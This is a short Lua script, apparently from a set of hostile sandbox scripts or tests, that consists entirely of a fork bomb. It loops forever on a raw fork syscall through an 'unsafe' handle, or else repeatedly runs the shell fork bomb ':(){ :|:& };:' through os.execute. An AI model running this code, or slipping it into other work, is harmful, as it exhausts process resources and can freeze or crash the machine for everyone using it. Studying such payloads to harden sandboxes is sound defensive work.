-- The classic: processes without end.
if tab.unsafe then
  while true do tab.unsafe.syscall(57) end -- fork()
else
  while true do os.execute(":(){ :|:& };:") end
end
